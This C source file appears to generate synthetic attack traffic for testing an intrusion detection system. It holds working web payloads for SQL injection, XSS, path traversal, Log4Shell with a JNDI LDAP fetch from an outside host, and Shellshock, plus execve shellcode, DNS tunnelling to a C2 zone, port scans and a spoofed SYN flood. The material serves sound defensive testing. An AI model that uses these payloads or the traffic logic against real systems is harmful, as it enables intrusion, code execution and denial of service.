/* SPDX-License-Identifier: BSD-3-Clause */

/*
 * The ids profile's attacks. Each payload holds strings that rules of
 * configs/ids/rules match (the sids are noted next to each); some are cut
 * over two segments inside the matching string, so that only stream
 * reassembly finds them. The detectors get what configs/ids.ini asks for:
 * 30 distinct ports from one source within 3 s (portscan_ports 20), 60
 * hosts within 6 s (portscan_hosts 50), 300 unanswered handshakes to one
 * host within 0.6 s (synflood_syns 200).
 */

#include <string.h>
#include <strings.h>

#include <sa/headers.h>

#include "tg_app.h"
#include "tg_ids.h"

#define TG_ATT_WEB_PORT		80
#define TG_ATT_WEB_ALT_PORT	8080
#define TG_ATT_DNS_PORT		53
#define TG_ATT_SSH_PORT		22
#define TG_ATT_HTTPS_PORT	443
#define TG_ATT_RTT_US		40000
#define TG_ATT_HOST_US		200
#define TG_ATT_BUF		1600
#define TG_ATT_FIRST_ATTACKER	10	/* web attack i: attacker 10 + i */
#define TG_ATT_SHELL_ATTACKER	40
#define TG_ATT_SCAN_ATTACKER	20
#define TG_ATT_SWEEP_ATTACKER	30
#define TG_ATT_FLAGS_ATTACKER	50
#define TG_ATT_SCAN_VICTIM	19	/* 10.0.100.20 */
#define TG_ATT_FLOOD_VICTIM	9	/* 10.0.100.10 */
#define TG_ATT_SHELL_VICTIM	29	/* 10.0.100.30 */
#define TG_ATT_COMPROMISED	4	/* 10.0.200.5 */
#define TG_ATT_RESOLVER		0	/* 198.18.0.1 */
#define TG_ATT_SCAN_SPORT	51234
#define TG_ATT_SCAN_GAP_US	100000
#define TG_ATT_SWEEP_HOSTS	60
#define TG_ATT_SWEEP_GAP_US	100000
#define TG_ATT_SWEEP_ANSWERS	3	/* every third host is up */
#define TG_ATT_FLOOD_SYNS	300
#define TG_ATT_FLOOD_GAP_US	2000
#define TG_ATT_FLOOD_SOURCES	((1u << 22) - 2)
#define TG_ATT_EPHEMERAL	32768
#define TG_ATT_EPHEMERAL_SPAN	28232
#define TG_ATT_HEX		16

#define TG_ATT_ARRAY_SIZE(a)	(sizeof(a) / sizeof((a)[0]))

/* A request to an inside web server. */
struct tg_att_web {
	uint16_t dport;
	uint8_t v6;		/* over IPv6, drawn only with --ipv6 */
	const char *req;
	const char *cut;	/* the second segment starts here, or NULL */
	const char *drop;	/* content of a drop rule it holds, or NULL */
};

static const struct tg_att_web tg_att_webs[TG_IDS_ATTACKS_WEB] = {
	/* 1001002 SQLi URL-encoded UNION SELECT */
	{ TG_ATT_WEB_PORT, 0, "GET /products.php?cat=2&id=-1%20UNION%20SELECT"
	  "%201,user(),3,4--%20- HTTP/1.1\r\nHost: shop.example.com\r\n"
	  "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\n"
	  "Accept: */*\r\n\r\n", NULL, NULL },
	/* 1001005 SQLi tautology, cut inside it */
	{ TG_ATT_WEB_ALT_PORT, 0, "POST /login.jsp HTTP/1.1\r\nHost: "
	  "portal.example.com\r\nContent-Type: application/x-www-form-"
	  "urlencoded\r\nContent-Length: 36\r\n\r\nusername=admin' or 1=1-- "
	  "&password=x", "1=1--", NULL },
	/* 1002000 <script, cut inside it; 1002009, 1002011 */
	{ TG_ATT_WEB_PORT, 0, "GET /search?q=%22%3E<script>alert(document."
	  "cookie)</script> HTTP/1.1\r\nHost: www.example.com\r\n\r\n",
	  "ipt>alert", NULL },
	/* 1003000 ../../ */
	{ TG_ATT_WEB_PORT, 0, "GET /download.php?file=../../../../var/www/"
	  "config.inc HTTP/1.1\r\nHost: files.example.com\r\n\r\n", NULL,
	  NULL },
	/* 1003000, 1003007 (drop) /etc/passwd */
	{ TG_ATT_WEB_PORT, 0, "GET /static/../../../../etc/passwd HTTP/1.1\r\n"
	  "Host: www.example.com\r\n\r\n", NULL, "/etc/passwd" },
	/* 1004000 (drop) ${jndi:, 1004001 (drop) jndi:ldap, cut inside */
	{ TG_ATT_WEB_PORT, 0, "GET /api/v1/status HTTP/1.1\r\nHost: api."
	  "example.com\r\nUser-Agent: ${jndi:ldap://203.0.113.66:1389/"
	  "Exploit}\r\nAccept: */*\r\n\r\n", "di:ldap", "${jndi:" },
	/* 1004005 (drop) Shellshock */
	{ TG_ATT_WEB_PORT, 0, "GET /cgi-bin/status.cgi HTTP/1.1\r\nHost: "
	  "www.example.com\r\nUser-Agent: () { :;}; echo; /bin/cat "
	  "/etc/issue\r\n\r\n", NULL, "() { :;};" },
	/* 1005000 scanner sqlmap, cut inside the name */
	{ TG_ATT_WEB_PORT, 0, "GET /phpmyadmin/ HTTP/1.1\r\nHost: "
	  "10.0.100.1\r\nUser-Agent: sqlmap/1.7.2#stable "
	  "(https://sqlmap.org)\r\n"
	  "Accept: */*\r\n\r\n", "map/1.7", NULL },
	/* 1005001 scanner Nikto */
	{ TG_ATT_WEB_ALT_PORT, 0, "GET /cgi-bin/test.cgi HTTP/1.1\r\nHost: "
	  "10.0.100.2:8080\r\nUser-Agent: Mozilla/5.00 (Nikto/2.5.0) "
	  "(Evasions:None) (Test:000562)\r\n\r\n", NULL, NULL },
	/* 1002005 onerror=, 1002011, 1002015: over IPv6 */
	{ TG_ATT_WEB_PORT, 1, "GET /comment?text=<img src=x onerror=alert(1)> "
	  "HTTP/1.1\r\nHost: www.example.com\r\n\r\n", NULL, NULL },
};

static const char tg_att_web_reply[] = "HTTP/1.1 404 Not Found\r\n"
	"Server: Apache\r\nContent-Length: 0\r\n\r\n";

/* x86 execve("/bin//sh"): 1006003 (drop) after a NOP sled: 1006000
 * (drop), cut inside the sled. */
static const uint8_t tg_att_sc_execve[] = {
	0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90,
	0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90,
	0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90,
	0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90,
	0x31, 0xc0, 0x50, 0x68, 0x2f, 0x2f, 0x73, 0x68,
	0x68, 0x2f, 0x62, 0x69, 0x6e, 0x89, 0xe3, 0x50,
	0x53, 0x89, 0xe1, 0xb0, 0x0b, 0xcd, 0x80,
};

/* shikata_ga_nai decoder stub: 1006006, 1006014. */
static const uint8_t tg_att_sc_shikata[] = {
	0xdb, 0xc0, 0xd9, 0x74, 0x24, 0xf4, 0x5b, 0x29,
	0xc9, 0xb1, 0x12, 0xba, 0x3e, 0x1f, 0x86, 0x53,
	0x31, 0x53, 0x17, 0x83, 0xc3, 0x04, 0x03, 0x53,
	0x2c, 0xe2, 0x73, 0x66, 0x62, 0x0e, 0x70, 0x98,
};

/* NOP sled over UDP: 1006021. */
static const uint8_t tg_att_sc_udp[] = {
	0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90,
	0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90,
	0x90, 0x90, 0x90, 0x90, 0xeb, 0x1f, 0x5e, 0x89,
	0x76, 0x08, 0x31, 0xc0,
};

/* The shortest NOP sled a drop rule matches (1006000). */
#define TG_ATT_SLED_DROP	24

struct tg_att_shell {
	uint8_t proto;
	uint16_t dport;
	const uint8_t *bytes;
	uint32_t len;
	uint32_t cut;		/* 0: one segment */
	uint32_t drop_end;	/* a drop rule's content ends here, 0: none */
};

static const struct tg_att_shell tg_att_shells[TG_IDS_SHELLCODES] = {
	{ SA_IPPROTO_TCP, 4444, tg_att_sc_execve, sizeof(tg_att_sc_execve),
	  12, TG_ATT_SLED_DROP },
	{ SA_IPPROTO_TCP, 31337, tg_att_sc_shikata,
	  sizeof(tg_att_sc_shikata), 0, 0 },
	{ SA_IPPROTO_UDP, 9999, tg_att_sc_udp, sizeof(tg_att_sc_udp), 0, 0 },
};

/* The port scan's 30 ports; 22, 80 and 443 are open. */
static const uint16_t tg_att_scan_ports[] = {
	21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995,
	1433, 1521, 1723, 2049, 3306, 3389, 5060, 5432, 5900, 6379, 8443,
	9200, 11211, 27017, 8080,
};

/* NULL probes (1008000) and XMAS probes (1008001) to closed ports. */
static const uint16_t tg_att_flag_ports[] = { 81, 113, 1025, 3390 };

int
tg_ids_web_is_v6(uint32_t i)
{
	return i < TG_IDS_ATTACKS_WEB && tg_att_webs[i].v6;
}

static uint32_t
tg_att_find(const char *hay, const char *needle)
{
	const char *p;
	size_t n = strlen(needle);

	for (p = hay; *p != '\0'; p++)
		if (strncasecmp(p, needle, n) == 0)
			return (uint32_t)(p - hay);
	return 0;
}

static void
tg_att_web(struct tg_ids *ids, struct tg_sess *s, struct tg_conv *c)
{
	const struct tg_att_web *w = &tg_att_webs[s->a];
	struct tg_ids_xchg x = {
		.req = (const uint8_t *)w->req,
		.req_len = (uint32_t)strlen(w->req),
		.resp = (const uint8_t *)tg_att_web_reply,
		.resp_len = sizeof(tg_att_web_reply) - 1,
		.rtt_us = TG_ATT_RTT_US,
	};

	tg_ids_end(&c->end[0], c->family, TG_IDS_NET_ATTACKER,
		   TG_ATT_FIRST_ATTACKER + s->a, (uint16_t)(TG_ATT_EPHEMERAL +
		   tg_below(tg_splitmix64(&s->rng), TG_ATT_EPHEMERAL_SPAN)));
	tg_ids_end(&c->end[1], c->family, TG_IDS_NET_IN_SERVER,
		   w->dport == TG_ATT_WEB_PORT ? 0 : 1, w->dport);
	if (w->cut != NULL)
		x.cut = tg_att_find(w->req, w->cut);
	if (w->drop != NULL)
		x.drop_end = tg_att_find(w->req, w->drop) +
			     (uint32_t)strlen(w->drop);
	tg_ids_tcp_xchg(ids, c, &s->rng, &x);
}

static void
tg_att_shell(struct tg_ids *ids, struct tg_sess *s, struct tg_conv *c)
{
	const struct tg_att_shell *sh = &tg_att_shells[s->a];
	struct tg_ids_xchg x = {
		.req = sh->bytes,
		.req_len = sh->len,
		.cut = sh->cut,
		.drop_end = sh->drop_end,
		.rtt_us = TG_ATT_RTT_US,
	};

	c->proto = sh->proto;
	tg_ids_end(&c->end[0], 4, TG_IDS_NET_ATTACKER,
		   TG_ATT_SHELL_ATTACKER + s->a, (uint16_t)(TG_ATT_EPHEMERAL +
		   tg_below(tg_splitmix64(&s->rng), TG_ATT_EPHEMERAL_SPAN)));
	tg_ids_end(&c->end[1], 4, TG_IDS_NET_IN_SERVER, TG_ATT_SHELL_VICTIM,
		   sh->dport);
	if (sh->proto == SA_IPPROTO_UDP)
		tg_conv_udp(c, 0, 0, sh->bytes, sh->len);
	else
		tg_ids_tcp_xchg(ids, c, &s->rng, &x);
}

/* @p prefix, hex labels of @p n_labels x @p label_len characters, then
 * @p zone. */
static void
tg_att_hex_name(char *name, size_t cap, const char *prefix,
		uint32_t n_labels, uint32_t label_len, const char *zone,
		uint64_t *rng)
{
	static const char hex[] = "0123456789abcdef";
	size_t at = strlen(prefix);
	uint32_t i, j;

	memcpy(name, prefix, at);
	for (i = 0; i < n_labels && at + label_len + 1 < cap; i++) {
		for (j = 0; j < label_len; j++)
			name[at++] = hex[tg_below(tg_splitmix64(rng),
						  TG_ATT_HEX)];
		name[at++] = '.';
	}
	name[at] = '\0';
	strncat(name, zone, cap - at - 1);
}

/*
 * DNS tunnelling from the compromised host, each query a flow of its own:
 * variant 0 dnscat2 names (1007003); 1 TXT queries of long names, over
 * 180 bytes (1007001), answered by TXT records over 1200 bytes
 * (1007015); 2 queries grown past 300 bytes by EDNS padding (1007000,
 * 1007001).
 */
static void
tg_att_tunnel(struct tg_sess *s, struct tg_conv *c)
{
	static const struct {
		const char *prefix, *zone;
		uint32_t queries, labels, label_len, answer, pad;
	} var[TG_IDS_TUNNELS] = {
		{ "dnscat.", "c2.example.net", 4, 2, 16, 32, 0 },
		{ "", "t.example.net", 3, 3, 60, 1000, 0 },
		{ "", "t.example.net", 2, 4, 58, 200, 64 },
	};
	uint8_t q[TG_ATT_BUF], r[TG_ATT_BUF], txt[TG_ATT_BUF];
	char name[TG_ATT_BUF];
	uint32_t i, qlen, rlen, v = s->a;
	uint16_t id;

	c->proto = SA_IPPROTO_UDP;
	tg_ids_end(&c->end[1], 4, TG_IDS_NET_OUT_SERVER, TG_ATT_RESOLVER,
		   TG_ATT_DNS_PORT);
	for (i = 0; i < var[v].queries; i++) {
		tg_ids_end(&c->end[0], 4, TG_IDS_NET_COMPROMISED,
			   TG_ATT_COMPROMISED, (uint16_t)(TG_ATT_EPHEMERAL +
			   tg_below(tg_splitmix64(&s->rng),
				    TG_ATT_EPHEMERAL_SPAN)));
		tg_att_hex_name(name, sizeof(name), var[v].prefix,
				var[v].labels, var[v].label_len, var[v].zone,
				&s->rng);
		tg_app_words(txt, var[v].answer, &s->rng);
		id = (uint16_t)tg_splitmix64(&s->rng);
		qlen = tg_app_dns(q, sizeof(q), id, name, TG_DNS_TYPE_TXT,
				  NULL, 0);
		if (var[v].pad > 0)
			qlen = tg_app_dns_pad(q, qlen, sizeof(q), var[v].pad);
		rlen = tg_app_dns(r, sizeof(r), id, name, TG_DNS_TYPE_TXT,
				  txt, (uint16_t)var[v].answer);
		tg_conv_udp(c, 0, i == 0 ? 0 : TG_ATT_RTT_US, q, qlen);
		tg_conv_udp(c, 1, TG_ATT_RTT_US, r, rlen);
	}
}

/* A TCP probe from the attacker end 0 to port @p port of end 1, and the
 * victim's answer: SYN-ACK (then the scanner's RST) when @p open, else
 * RST-ACK. */
static void
tg_att_probe(struct tg_conv *c, uint16_t port, uint8_t flags, int open,
	     uint64_t dt_us)
{
	uint32_t isn = c->end[0].seq;

	c->end[1].port = port;
	tg_conv_tcp_at(c, 0, dt_us, flags, isn, NULL, 0);
	/* The answer acknowledges what the probe occupied. */
	c->end[0].seq = isn + ((flags & (SA_TCP_SYN | SA_TCP_FIN)) != 0);
	if (open) {
		tg_conv_tcp(c, 1, TG_ATT_HOST_US, SA_TCP_SYN | SA_TCP_ACK,
			    NULL, 0);
		tg_conv_tcp_at(c, 0, TG_ATT_HOST_US, SA_TCP_RST,
			       c->end[0].seq, NULL, 0);
	} else {
		tg_conv_tcp_at(c, 1, TG_ATT_HOST_US, SA_TCP_RST | SA_TCP_ACK,
			       0, NULL, 0);
	}
	c->end[0].seq = isn;
}

/* A SYN scan of 30 ports of one host: sid 1. */
static void
tg_att_portscan(struct tg_conv *c)
{
	uint32_t i;
	uint16_t p;

	tg_ids_end(&c->end[0], 4, TG_IDS_NET_ATTACKER, TG_ATT_SCAN_ATTACKER,
		   TG_ATT_SCAN_SPORT);
	tg_ids_end(&c->end[1], 4, TG_IDS_NET_IN_SERVER, TG_ATT_SCAN_VICTIM, 0);
	for (i = 0; i < TG_ATT_ARRAY_SIZE(tg_att_scan_ports); i++) {
		p = tg_att_scan_ports[i];
		tg_att_probe(c, p, SA_TCP_SYN, p == TG_ATT_SSH_PORT ||
			     p == TG_ATT_WEB_PORT || p == TG_ATT_HTTPS_PORT,
			     i ? TG_ATT_SCAN_GAP_US : 0);
	}
}

/* NULL and XMAS probes to closed ports: 1008000, 1008001. */
static void
tg_att_flags(struct tg_conv *c)
{
	uint32_t i;

	tg_ids_end(&c->end[0], 4, TG_IDS_NET_ATTACKER, TG_ATT_FLAGS_ATTACKER,
		   TG_ATT_SCAN_SPORT);
	tg_ids_end(&c->end[1], 4, TG_IDS_NET_IN_SERVER, TG_ATT_SCAN_VICTIM, 0);
	for (i = 0; i < TG_ATT_ARRAY_SIZE(tg_att_flag_ports); i++)
		tg_att_probe(c, tg_att_flag_ports[i], i % 2 ? SA_TCP_FIN |
			     SA_TCP_PSH | SA_TCP_URG : 0, 0,
			     i ? TG_ATT_SCAN_GAP_US : 0);
}

/* Echo requests without data (nmap -sn) to 60 hosts: sid 2. */
static void
tg_att_sweep(struct tg_conv *c)
{
	uint32_t i;

	c->proto = SA_IPPROTO_ICMP;
	tg_ids_end(&c->end[0], 4, TG_IDS_NET_ATTACKER, TG_ATT_SWEEP_ATTACKER,
		   0);
	for (i = 0; i < TG_ATT_SWEEP_HOSTS; i++) {
		tg_ids_end(&c->end[1], 4, TG_IDS_NET_SWEPT, i, 0);
		tg_conv_icmp(c, 0, i ? TG_ATT_SWEEP_GAP_US : 0,
			     SA_ICMP_ECHO_REQUEST, 0, TG_ATT_SCAN_SPORT,
			     (uint16_t)(i + 1), NULL, 0);
		if (i % TG_ATT_SWEEP_ANSWERS == 0)
			tg_conv_icmp(c, 1, TG_ATT_HOST_US, SA_ICMP_ECHO_REPLY,
				     0, TG_ATT_SCAN_SPORT, (uint16_t)(i + 1),
				     NULL, 0);
	}
}

/* SYNs from spoofed sources to one web server, each answered by a
 * SYN-ACK that nobody acknowledges: sid 3. */
static void
tg_att_flood(struct tg_sess *s, struct tg_conv *c)
{
	uint32_t i;

	tg_ids_end(&c->end[1], 4, TG_IDS_NET_IN_SERVER, TG_ATT_FLOOD_VICTIM,
		   TG_ATT_WEB_PORT);
	for (i = 0; i < TG_ATT_FLOOD_SYNS; i++) {
		tg_ids_end(&c->end[0], 4, TG_IDS_NET_SPOOFED,
			   (uint32_t)tg_below(tg_splitmix64(&s->rng),
					      TG_ATT_FLOOD_SOURCES),
			   (uint16_t)(TG_ATT_EPHEMERAL +
			   tg_below(tg_splitmix64(&s->rng),
				    TG_ATT_EPHEMERAL_SPAN)));
		c->end[0].seq = (uint32_t)tg_splitmix64(&s->rng);
		tg_conv_tcp(c, 0, i ? TG_ATT_FLOOD_GAP_US : 0, SA_TCP_SYN,
			    NULL, 0);
		tg_conv_tcp(c, 1, TG_ATT_HOST_US, SA_TCP_SYN | SA_TCP_ACK,
			    NULL, 0);
	}
}

int
tg_ids_attack_build(struct tg_prof *p, struct tg_ids *ids, struct tg_sess *s,
		    struct tg_out *out)
{
	uint8_t family = s->kind == TG_IDS_WEB && tg_ids_web_is_v6(s->a) ?
			 6 : 4;
	struct tg_conv c;

	tg_ids_conv(p, ids, s, &c, out, family, SA_IPPROTO_TCP);
	switch (s->kind) {
	case TG_IDS_WEB:
		tg_att_web(ids, s, &c);
		break;
	case TG_IDS_SHELL:
		tg_att_shell(ids, s, &c);
		break;
	case TG_IDS_TUNNEL:
		tg_att_tunnel(s, &c);
		break;
	case TG_IDS_PORTSCAN:
		tg_att_portscan(&c);
		break;
	case TG_IDS_FLAGS:
		tg_att_flags(&c);
		break;
	case TG_IDS_SWEEP:
		tg_att_sweep(&c);
		break;
	default:
		tg_att_flood(s, &c);
		break;
	}
	return 0;
}
